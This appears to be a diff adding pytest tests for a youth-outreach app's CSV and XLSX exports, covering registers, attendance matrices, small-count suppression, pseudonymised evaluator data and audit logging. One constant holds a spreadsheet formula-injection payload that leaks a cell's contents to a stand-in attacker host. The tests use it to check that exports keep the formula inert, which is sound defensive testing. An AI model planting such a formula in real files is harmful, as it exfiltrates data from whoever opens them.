@@ -1,0 +1,164 @@
+"""Every export read back as a spreadsheet program would: CSV by the csv module, XLSX by openpyxl."""
+import csv
+import io
+import re
+
+import openpyxl
+import pytest
+from sqlalchemy import select
+
+from outreach.errors import PermissionDeniedError
+from outreach.exports.writers import csv_chunks, write_xlsx
+from outreach.metrics import Settings
+from outreach.models import Attendance, AuditEvent
+from outreach.services.exports import run_export
+from tests.course import AS_OF, course  # noqa: F401  (fixture)
+from tests.factories import make_user
+
+KEY = b"test pseudonym key"
+HOSTILE = '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")'
+
+
+def run(course, key, fmt="csv", *, role="lead", pseudonym_key=KEY, **kw):
+    lead = kw.pop("by", None) or make_user()
+    spec, table = run_export(key, fmt, by=lead, role=role, organisation=course["org"], settings=Settings(),
+                             pseudonym_key=pseudonym_key, now=AS_OF, **kw)
+    if fmt == "csv":
+        text = b"".join(csv_chunks(table)).decode("utf-8-sig")
+        return list(csv.reader(io.StringIO(text)))
+    buf = io.BytesIO()
+    write_xlsx(table, buf)
+    buf.seek(0)
+    sheet = openpyxl.load_workbook(buf, read_only=False).active
+    return sheet
+
+
+def body(rows):
+    """Data rows: after the header, before the blank line and note (if any)."""
+    out = []
+    for row in rows[1:]:
+        if not row:
+            break
+        out.append(row)
+    return out
+
+
+@pytest.fixture()
+def hostile_note(course, db):
+    a = db.session.execute(select(Attendance).where(Attendance.session_id == course["s"][2].id,
+                                                    Attendance.young_person_id == course["people"]["A"].id)).scalar_one()
+    a.notes = HOSTILE
+    db.session.flush()
+    return a
+
+
+def test_session_register_csv(course, hostile_note):
+    rows = run(course, "session_register", session=course["s"][2])
+    assert rows[0] == ["Name", "Pass code", "Booking", "Status", "Time in", "Checked in by", "Time out",
+                       "Collected by", "Notes"]
+    by_name = {r[0].split()[0]: r for r in body(rows)}
+    # S2: A, B, D booked before it; W walked in; C enrolled later, so not on this register.
+    assert sorted(by_name) == ["Ada", "B", "D", "W"]
+    assert (by_name["Ada"][3], by_name["B"][3], by_name["D"][3], by_name["W"][3]) == \
+        ("present", "absent", "absent", "present")
+    assert by_name["W"][2] == "walk-in" and by_name["Ada"][4] == "18:00"
+    # The formula comes back as inert text.
+    assert by_name["Ada"][8] == "'" + HOSTILE
+
+
+def test_session_register_xlsx_keeps_the_formula_inert(course, hostile_note):
+    sheet = run(course, "session_register", "xlsx", session=course["s"][2])
+    rows = list(sheet.iter_rows(values_only=True))
+    assert rows[0][:4] == ("Name", "Pass code", "Booking", "Status")
+    assert len(rows) == 1 + 4
+    notes = [r[8] for r in rows[1:] if r[8]]
+    assert notes == ["'" + HOSTILE]
+    assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)
+
+
+def test_session_register_of_a_cancelled_session(course):
+    rows = body(run(course, "session_register", session=course["s"][3]))
+    # A B D, and C, who enrolled on the morning of S3.
+    assert {r[3] for r in rows} == {"cancelled"} and len(rows) == 4
+
+
+def test_programme_matrix(course):
+    rows = run(course, "programme_matrix", programme=course["programme"])
+    header = rows[0]
+    # Six sessions have started by 10 Dec (S7 is to come).
+    assert header[:2] == ["Name", "Pass code"] and header[-3:] == ["Present", "Missed", "Attendance %"]
+    assert len(header) == 2 + 6 + 3 and header[2].startswith("Wed 04 Nov 2026")
+    by_name = {r[0].split()[0]: r[2:] for r in body(rows)}
+    assert sorted(by_name) == ["Ada", "B", "C", "D", "W"]
+    assert by_name["Ada"] == ["present", "present", "cancelled", "present", "present", "absent", "4", "1", "80"]
+    # C enrolled after S2: blank before, then present at S4 and absent at S5 and S6.
+    assert by_name["C"] == ["", "", "cancelled", "present", "absent", "absent", "1", "2", "33"]
+    assert by_name["W"] == ["", "present", "cancelled", "absent", "absent", "absent", "1", "3", "25"]
+    sheet = run(course, "programme_matrix", "xlsx", programme=course["programme"])
+    assert sheet.max_row == 1 + 5
+
+
+def test_headcounts_flag_sessions_nobody_attended(course):
+    rows = body(run(course, "headcounts"))
+    assert [r[4] for r in rows] == ["held", "held", "cancelled", "held", "held", "held"]
+    assert [r[6] for r in rows] == ["2", "2", "", "2", "1", "0"]
+    assert [r[8] for r in rows] == ["no", "no", "no", "no", "no", "yes"]
+    sheet = run(course, "headcounts", "xlsx")
+    assert sheet.max_row == 1 + 6
+
+
+def test_funder_return_lets_no_small_count_out(course):
+    rows = run(course, "funder_return")
+    assert rows[0][:3] == ["Breakdown", "Group", "Participants"]
+    for row in body(rows):
+        for cell in row[2:]:
+            assert not re.fullmatch(r"[1-4]", cell), row
+    assert rows[-1][0] == "Note" and "<5" in rows[-1][1]
+    # Age band 14–16 holds only A: shown as "<5", never as 1.
+    age = {r[1]: r for r in body(rows) if r[0] == "Age band"}
+    assert age["14–16"][2] == "<5"
+    sheet = run(course, "funder_return", "xlsx")
+    assert [c.value for c in sheet[1]][:3] == ["Breakdown", "Group", "Participants"]
+
+
+def test_evaluator_dataset_holds_no_personal_data_and_stable_codes(course, db):
+    people = course["people"]
+    for key, person in people.items():
+        person.first_name, person.last_name = f"Firstname{key}zq", f"Surname{key}zq"
+        person.emergency_contact_phone = f"07700 90{person.id:04d}"
+        person.medical_notes = f"Allergic to peanuts {person.first_name}"
+        person.emergency_contact_name = f"Contact of {person.first_name}"
+    db.session.flush()
+    rows = run(course, "evaluator_dataset")
+    text = "\n".join(",".join(r) for r in rows)
+    for person in people.values():
+        for value in (person.first_name, person.last_name, person.date_of_birth.isoformat(),
+                      person.date_of_birth.strftime("%d/%m/%Y"), person.emergency_contact_phone,
+                      person.medical_notes, person.emergency_contact_name):
+            assert value not in text
+    assert rows[0][:7] == ["Participant code", "Age band", "Gender", "Postcode district", "Programme",
+                           "Session date", "Attended"]
+    data = body(rows)
+    # Offered sessions: A 5 + B 5 + D 5 + C 3 + W 4 = 22 rows; 7 of them attended.
+    assert len(data) == 22 and sum(r[6] == "yes" for r in data) == 7
+    codes = {r[0] for r in data}
+    assert len(codes) == 5
+    ids = {str(p.id) for p in people.values()}
+    assert not any(code in ids or code.endswith(tuple("-" + i for i in ids)) for code in codes)
+    # The same young person has the same code in another export run, and another key gives other codes.
+    assert {r[0] for r in body(run(course, "evaluator_dataset"))} == codes
+    assert {r[0] for r in body(run(course, "evaluator_dataset", pseudonym_key=b"other"))}.isdisjoint(codes)
+    sheet = run(course, "evaluator_dataset", "xlsx")
+    assert sheet.max_row == 1 + 22
+
+
+def test_a_worker_cannot_export_and_every_export_is_audited(course, db):
+    worker = make_user()
+    with pytest.raises(PermissionDeniedError):
+        run(course, "headcounts", role="worker", by=worker)
+    lead = make_user()
+    run(course, "headcounts", by=lead)
+    events = db.session.execute(select(AuditEvent).where(AuditEvent.action.like("export.%"))).scalars().all()
+    assert [(e.action, e.actor_id, e.organisation_id) for e in events] == [
+        ("export.headcounts", lead.id, course["org"].id)]
+    assert events[0].occurred_at == AS_OF and events[0].detail["format"] == "csv"
